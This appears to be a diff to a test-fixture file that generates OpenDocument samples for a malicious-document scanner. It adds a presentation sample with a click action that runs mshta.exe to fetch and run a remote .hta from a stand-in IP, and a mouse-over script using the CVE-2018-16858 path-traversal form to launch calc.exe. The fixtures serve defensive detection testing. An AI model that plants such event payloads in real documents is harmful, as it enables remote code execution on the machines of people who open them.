@@ -40,6 +40,9 @@ NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
       'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
       'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
       'xmlns:xlink="http://www.w3.org/1999/xlink" '
+      'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
+      'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
+      'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
       'xmlns:ooo="http://openoffice.org/2004/office"')
 
 
@@ -178,6 +181,21 @@ SHEET_BODY = ('<office:spreadsheet><table:table table:name="Sheet1"><table:table
               '<table:table-cell><text:p>1</text:p></table:table-cell></table:table-row>'
               '</table:table></office:spreadsheet>')
 
+# A presentation: a shape that runs a program on click (presentation:action
+# execute), and one whose mouse-over runs a Python script of the
+# installation with arguments of its own (the CVE-2018-16858 form).
+PRES_BODY = (
+    '<office:presentation><draw:page draw:name="page1">'
+    '<draw:custom-shape svg:width="28cm" svg:height="21cm"><office:event-listeners>'
+    '<presentation:event-listener script:event-name="dom:click" presentation:action="execute"'
+    ' xlink:href="C:\\Windows\\System32\\mshta.exe http://198.51.100.30/p.hta"'
+    ' xlink:type="simple"/></office:event-listeners><text:p>Click to view</text:p>'
+    '</draw:custom-shape><draw:custom-shape><office:event-listeners>'
+    '<script:event-listener script:language="ooo:script" script:event-name="dom:mouseover"'
+    ' xlink:href="vnd.sun.star.script:../../../program/python-core-3.5.5/lib/pydoc.py'
+    '$tempfilepager(1, calc.exe )?language=Python&amp;location=share" xlink:type="simple"/>'
+    '</office:event-listeners></draw:custom-shape></draw:page></office:presentation>')
+
 
 def odf_cases():
     return {
@@ -189,6 +207,7 @@ def odf_cases():
         "odf_basic_macro_no_event": ("集計.ods", odf(
             "ods", SHEET_BODY, "", {"Standard": {"Module1": SUMMER}})),
         "odf_clean": ("議事録.odt", odf("odt", TEXT_BODY)),
+        "odf_presentation_actions": ("製品紹介.odp", odf("odp", PRES_BODY)),
         "odf_event_macro_shell": ("見積書.odt", odf(
             "odt", TEXT_BODY,
             event("office:load-finished",
